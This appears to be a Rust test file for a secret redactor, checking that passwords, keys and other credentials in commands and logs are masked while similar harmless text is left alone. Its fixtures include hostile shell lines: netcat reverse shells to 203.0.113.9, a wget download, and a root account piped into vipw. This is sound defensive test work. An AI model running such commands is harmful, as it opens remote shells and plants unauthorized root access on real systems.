//! What has the shape of a secret and is none, and the secret of the same shape.

use super::*;

/// Texts that still hold their secret, and texts that lost something though they hold none.
fn wrongs(secret: &[(&str, &str)], honest: &[&str]) -> Vec<String> {
    let redacted = |text: &str| {
        let masked = redactor().redact_text(text);
        assert_eq!(redactor().redact_text(&masked), masked);
        masked
    };
    let leaks = secret.iter().filter_map(|(text, secret)| {
        let masked = redacted(text);
        let kept = text.split(secret).all(|kept| masked.contains(kept.trim()));
        (masked.contains(secret) || !kept).then_some(masked)
    });
    let losses = honest
        .iter()
        .filter_map(|text| Some(redacted(text)).filter(|masked| masked != text));
    leaks.chain(losses).collect()
}

#[test]
fn a_call_or_a_member_is_one_only_where_program_code_assigns_it() {
    let secret = [
        (r#"{"user":"bob","password":"Sun.shine(24)"}"#, "Sun.shine(24)"),
        (r#"{"password":"Sunshine()"}"#, "Sunshine()"),
        ("tool --password Sun.shine(24)", "Sun.shine(24)"),
        ("net user bob Zorro77() /add", "Zorro77()"),
        ("net user bob \"Pass.word(1\" /add", "Pass.word(1"),
        ("mysql -p'Zorro77()' db", "Zorro77()"),
        ("password=Zorro77x()", "Zorro77x()"),
        ("password = Zorro77x()", "Zorro77x()"),
        ("password = hunter.two", "hunter.two"),
        ("db_password = correct.horse.battery", "correct.horse.battery"),
    ];
    let honest = [
        "password = hash(",
        "String password = request.getParameter(\"password\");",
        "password: yup.string().min(8).required(),",
        "password = readPassword()",
        "const token = req.headers.authorization;",
        "password = form.password",
        "self.password = settings.db_pass",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
    let mut value = serde_json::json!({"password": "Sun.shine(24)", "secret": "Sunshine()"});
    redactor().redact_json(&mut value);
    assert!(!value.to_string().contains("shine"), "{value}");
}

#[test]
fn a_tool_that_another_one_starts_keeps_its_password() {
    let secret = [
        ("docker exec -it web mysql -u root -p Zorro77x! db", "Zorro77x!"),
        ("kubectl exec pod -- tool -u root -p Zorro77x!", "Zorro77x!"),
        ("ssh h tool -u root -p Zorro77x!", "Zorro77x!"),
        ("sudo docker run --rm img app -u bob -p Zorro77x!", "Zorro77x!"),
    ];
    let honest = [
        "docker run -u 1000:1000 -p 8080:80 -p 127.0.0.1:9090:90/tcp x",
        "docker compose -p shop2026 exec -u root web sh",
        "ssh -p 2222 h tool -u root",
        "kubectl patch deploy x -u bob -p {\"spec\":{\"replicas\":3}}",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn what_passed_is_counted_only_beside_what_did_not() {
    let secret = [
        ("login attempt user=admin pass=123456 failed", "123456"),
        ("auth user=root pass=12345678 failed from port=22", "12345678"),
        ("pass=888888 -> failure", "888888"),
        ("PASS=20241130 next fail", "20241130"),
        ("pass=888888%", "888888%"),
    ];
    let honest = [
        "tests: pass=128 fail=3 skip=0",
        "Pass: 128, Fail: 3",
        "pass=1024 errors: 2",
        "pass=300 skipped=1",
        "coverage pass=100%",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn a_word_of_a_language_names_a_tool_only_before_what_the_tool_takes() {
    let secret = [
        ("ip ftp password 7 Zorro77x!", "Zorro77x!"),
        ("ip ospf authentication-key Zorro77x!", "Zorro77x!"),
        ("HELLO 3 AUTH default Zorro77x!", "Zorro77x!"),
        ("vault operator unseal Zorro77xAbcDef", "Zorro77xAbcDef"),
        ("shodan init Zorro77xAbcDef", "Zorro77xAbcDef"),
        ("local-user eve password cipher SummerNight", "SummerNight"),
        ("net users eve hunter /add", "hunter"),
        ("net users eve Zorro77x", "Zorro77x"),
        ("autologon svc CORP Zorro77x!", "Zorro77x!"),
        ("pppd call provider user bob password Zorro77x!", "Zorro77x!"),
    ];
    let honest = [
        "Invalid ip 10.0.0.9: bad password given by client",
        "fail2ban: Ban ip 203.0.113.9 reason: wrong password attempts",
        "Source ip 203.0.113.9 sent wrong password 3 times",
        "hello world auth basic flow",
        "vault unseal operation",
        "shodan init done",
        "local-user cipher suites",
        "pppd call provider password prompt",
        "net users listed by the domain",
        "autologon a b c",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn the_type_of_an_audit_record_is_no_name_of_a_value() {
    let secret = [
        (
            "aws configure set aws_secret_access_key abcDEF1234567890==",
            "abcDEF1234567890==",
        ),
        ("setenv DB_PASSWORD Zorro(7=7x", "Zorro(7=7x"),
    ];
    let honest = [
        "type=USER_AUTH msg=audit(1364475353.159:24270): user pid=3280 uid=500",
        "type=CRYPTO_SESSION msg=audit(1364475353.159:24270): pid=3280",
        "node=h1 type=USER_AUTH a1b2c3d4e5f6g7h8 x",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn what_is_fed_is_hidden_by_what_the_command_does_with_it() {
    let secret = [
        ("echo 'Zor:ro:77x' | sudo -S id", "Zor:ro:77x"),
        ("echo \"correct horse battery\" | sudo -S id", "correct horse battery"),
        (
            "echo \"correct horse battery\" | su - bob -c id",
            "correct horse battery",
        ),
        ("echo 'pay load 7' | sudo -S bash -c id", "pay load 7"),
        ("echo Zorro77x | sudo -S bash", "Zorro77x"),
    ];
    let honest = [
        "echo 'nc 203.0.113.9 4444 -e bash' | sudo -S bash",
        "echo 'useradd -m eve2' | sudo -S bash -s 2>/dev/null",
        "echo 'wget 203.0.113.9 -O x1' | sudo -S /bin/sh",
        "echo 'import os' | sudo -S python3 -",
        "echo 'CREATE DATABASE shop' | sudo -S -u postgres psql",
        "echo 'nc 203.0.113.9 4444 -e sh' | su bob -c 'bash -s'",
        "echo 'eve:x:0:0::/root:/bin/sh' | sudo -S vipw",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn a_word_before_the_end_of_a_key_is_its_last_line_only_behind_a_long_one() {
    let end = format!("-----END RSA {} KEY-----", "PRIVATE");
    let line = "abcDEF0123456789+/".repeat(3);
    let (cut, said) = (format!("x\n{line}\nQw==\n{end}"), format!("bob wrote\nwhoami\n{end}"));
    let masked = redactor().redact_text(&cut);
    assert!(!masked.contains(&line) && !masked.contains("Qw=="), "{masked}");
    assert_eq!(redactor().redact_text(&said), said);
}
